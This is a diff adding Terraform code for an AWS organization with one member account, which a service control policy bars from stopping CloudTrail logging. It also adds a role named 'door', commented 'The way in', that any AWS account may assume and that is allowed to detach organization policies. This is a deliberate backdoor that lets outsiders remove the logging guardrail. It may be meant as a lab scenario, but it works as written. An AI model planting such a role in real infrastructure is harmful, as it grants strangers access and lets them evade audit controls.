@@ -1,0 +1,43 @@
+# The way in: a role that anyone with an AWS account may assume.
+resource "aws_iam_role" "door" {
+  name = "door"
+  assume_role_policy = jsonencode({
+    Version   = "2012-10-17"
+    Statement = [{ Effect = "Allow", Principal = { AWS = "*" }, Action = "sts:AssumeRole" }]
+  })
+}
+
+resource "aws_iam_role_policy" "door" {
+  name = "door"
+  role = aws_iam_role.door.id
+  policy = jsonencode({
+    Version = "2012-10-17"
+    Statement = [
+      { Effect = "Allow", Action = ["organizations:DetachPolicy"], Resource = "*" },
+    ]
+  })
+}
+
+resource "aws_organizations_organization" "this" {
+  feature_set                   = "ALL"
+  aws_service_access_principals = []
+}
+
+resource "aws_organizations_account" "shop" {
+  name  = "shop"
+  email = "shop@example.com"
+}
+
+resource "aws_organizations_policy" "limit" {
+  name = "limit"
+  type = "SERVICE_CONTROL_POLICY"
+  content = jsonencode({
+    Version   = "2012-10-17"
+    Statement = [{ Effect = "Deny", Action = "cloudtrail:StopLogging", Resource = "*" }]
+  })
+}
+
+resource "aws_organizations_policy_attachment" "limit" {
+  policy_id = aws_organizations_policy.limit.id
+  target_id = aws_organizations_account.shop.id
+}
